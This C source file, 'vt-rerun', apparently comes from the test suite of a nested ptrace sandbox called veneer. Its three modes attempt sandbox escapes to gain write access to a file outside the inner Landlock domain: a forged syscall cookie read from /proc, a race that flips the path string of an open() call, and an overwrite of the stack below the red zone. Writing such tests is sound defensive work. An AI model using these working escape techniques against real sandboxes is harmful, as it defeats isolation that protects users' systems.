/* vt-rerun: attack the calls a nested ptrace sandbox runs again.
 *
 * usage: vt-rerun cookie|string|redzone TARGET SECONDS
 *
 * Inside veneer nested in veneer, a call the kernel must run is run again
 * by the inner tracer, with a cookie that lets it past the inner filter,
 * and answered by the outer supervisor -- out of the inner sandbox's
 * Landlock domain.  Each mode tries to get a writable fd of TARGET (a
 * lower file, as the outer view shows it) that way, and writes "PWNED" to
 * what it gets:
 *   cookie   a thread blocks in the open of a FIFO (a rerun); another reads
 *            its arguments in /proc/self/task/TID/syscall, cookie
 *            included, and forges openat(TARGET, O_WRONLY|O_TRUNC) and an
 *            O_CREAT of TARGET.new with it;
 *   string   open("/dev/null", O_WRONLY|O_APPEND) (a path outside the
 *            union, the kernel's) while another thread flips the string
 *            to TARGET and back;
 *   redzone  open("/tmp/vt-rerun", O_WRONLY|O_APPEND) (an upper file: its
 *            real path goes below the stack's red zone) while another
 *            thread writes "////...TARGET" over that stack area.
 * TARGET is the lower file's path in the outer view.
 * Prints what it did; the test looks at TARGET from the outer sandbox.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <pthread.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *target;
static volatile int stop;
static volatile pid_t blocked_tid;
static volatile unsigned long opener_sp;
static char flip[4096] = "/dev/null";

static void write_pwned(long fd)
{
	if (fd >= 0) {
		(void)!write((int)fd, "PWNED\n", 6);
		close((int)fd);
	}
}

static void *fifo_opener(void *fifo)
{
	blocked_tid = gettid();
	close(open(fifo, O_RDONLY));
	return NULL;
}

static int cookie_mode(void)
{
	const char *fifo = "/tmp/vt-rerun.fifo";
	uint64_t cookie = 0;
	pthread_t t;
	char name[4200];

	unlink(fifo);
	if (mkfifo(fifo, 0600) < 0)
		return perror("mkfifo"), 2;
	pthread_create(&t, NULL, fifo_opener, (void *)fifo);
	for (int i = 0; i < 300 && !cookie; i++) {
		char path[64], buf[512];
		unsigned long long nr, a[6];
		int fd;
		ssize_t n;

		usleep(10000);
		if (!blocked_tid)
			continue;
		snprintf(path, sizeof(path), "/proc/self/task/%d/syscall", blocked_tid);
		fd = open(path, O_RDONLY);
		n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
		if (fd >= 0)
			close(fd);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		if (sscanf(buf, "%llu 0x%llx 0x%llx 0x%llx 0x%llx 0x%llx 0x%llx", &nr, &a[0], &a[1], &a[2],
			   &a[3], &a[4], &a[5]) == 7 && nr == SYS_openat)
			cookie = a[5];
	}
	close(open(fifo, O_WRONLY | O_NONBLOCK));
	pthread_join(t, NULL);
	printf("cookie: %s\n", cookie ? "read" : "not read");
	write_pwned(syscall(SYS_openat, AT_FDCWD, target, O_WRONLY | O_TRUNC, 0, 0, cookie));
	snprintf(name, sizeof(name), "%s.new", target);
	write_pwned(syscall(SYS_openat, AT_FDCWD, name, O_WRONLY | O_CREAT | O_EXCL, 0644, 0, cookie));
	return 0;
}

static void *string_flipper(void *unused)
{
	size_t n = strlen(target) + 1;

	(void)unused;
	while (!stop) {
		memcpy(flip, target, n);
		for (volatile int i = 0; i < 50; i++)
			;
		memcpy(flip, "/dev/null", 10);
		for (volatile int i = 0; i < 50; i++)
			;
	}
	return NULL;
}

static void *redzone_writer(void *unused)
{
	size_t n = strlen(target);
	char *high, *low;

	(void)unused;
	while (!opener_sp)
		;
	/* below the red zone, where the tracer writes the real path */
	high = (char *)(opener_sp - 130);
	low = (char *)(opener_sp - 1200);
	while (!stop) {
		memset(low, '/', (size_t)(high - (ptrdiff_t)n - low));
		memcpy(high - n, target, n + 1);
	}
	return NULL;
}

/* opens from one thread while another rewrites what the rerun reads */
static int race_mode(int seconds, void *(*racer)(void *), bool redzone)
{
	time_t end = time(NULL) + seconds;
	pthread_t t;
	long opens = 0;

	if (redzone)
		close(open("/tmp/vt-rerun", O_WRONLY | O_CREAT, 0644));
	pthread_create(&t, NULL, racer, NULL);
	while (time(NULL) < end) {
		long fd;

		if (redzone) {
			unsigned long sp;

			__asm__ volatile("mov %%rsp, %0" : "=r"(sp));
			opener_sp = sp;
			fd = syscall(SYS_openat, AT_FDCWD, "/tmp/vt-rerun", O_WRONLY | O_APPEND);
		} else {
			fd = open(flip, O_WRONLY | O_APPEND);
		}
		opens++;
		write_pwned(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("opens: %ld\n", opens);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 4 || strlen(argv[2]) > 3000) {
		fprintf(stderr, "usage: vt-rerun cookie|string|redzone TARGET SECONDS\n");
		return 2;
	}
	target = argv[2];
	if (strcmp(argv[1], "cookie") == 0)
		return cookie_mode();
	if (strcmp(argv[1], "string") == 0)
		return race_mode(atoi(argv[3]), string_flipper, false);
	if (strcmp(argv[1], "redzone") == 0)
		return race_mode(atoi(argv[3]), redzone_writer, true);
	fprintf(stderr, "vt-rerun: unknown mode %s\n", argv[1]);
	return 2;
}
